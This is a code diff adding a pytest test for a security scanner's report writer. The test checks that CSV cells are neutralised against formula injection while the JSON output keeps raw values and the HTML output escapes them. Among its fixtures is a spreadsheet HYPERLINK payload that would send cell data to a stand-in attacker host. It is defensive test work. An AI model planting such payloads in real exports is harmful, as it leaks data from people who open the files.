@@ -162,3 +162,30 @@ def test_run_id_must_be_a_plain_folder_name(tmp_path: Path) -> None:
     for bad in ("latest", "../x", "a/b"):
         with pytest.raises(ValueError):
             write_reports([], tmp_path, run_id=bad, generated_at=NOW)
+
+
+def test_csv_cells_never_start_a_formula_and_json_keeps_the_raw_value(tmp_path: Path) -> None:
+    user = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    secret_arn = f"arn:aws:secretsmanager:eu-west-1:{ACCOUNT}:secret:+cmd-AbCdEf"
+    findings = [
+        Finding("iam_user_mfa_enabled_console_access", FAIL, "high", ACCOUNT, "global", user_arn(user), user,
+                "fix", {}, resource_id=user, resource_type="AwsIamUser"),
+        Finding("secretsmanager_automatic_rotation_enabled", FAIL, "medium", ACCOUNT, "eu-west-1", secret_arn,
+                "+cmd is not rotated", "-fix it", {}, resource_id="+cmd", resource_type="AwsSecretsManagerSecret"),
+        Finding("iam_user_mfa_enabled_console_access", FAIL, "high", ACCOUNT, "global", user_arn("x"), "@SUM(1)",
+                "\tTAB", {}, title="\rCR", resource_id="x"),
+    ]
+    write_reports(findings, tmp_path, run_id="r", generated_at=NOW)
+
+    with (tmp_path / "r" / "findings.csv").open(newline="", encoding="utf-8") as fh:
+        rows = {r["resource_id"]: r for r in csv.DictReader(fh)}
+    assert rows["'" + user]["message"] == "'" + user
+    assert rows["'+cmd"]["message"] == "'+cmd is not rotated" and rows["'+cmd"]["remediation"] == "'-fix it"
+    assert rows["x"]["message"] == "'@SUM(1)" and rows["x"]["remediation"] == "'\tTAB" and rows["x"]["title"] == "'\rCR"
+    assert rows["x"]["resource_arn"] == user_arn("x")  # a cell that starts safely is left as it is
+    for row in rows.values():
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
+    raw = {r["resource_id"]: r for r in json.loads((tmp_path / "r" / "findings.json").read_text())}
+    assert raw[user]["message"] == user and raw["+cmd"]["message"] == "+cmd is not rotated"
+    html_text = (tmp_path / "r" / "report.html").read_text()
+    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1" in html_text and user not in html_text
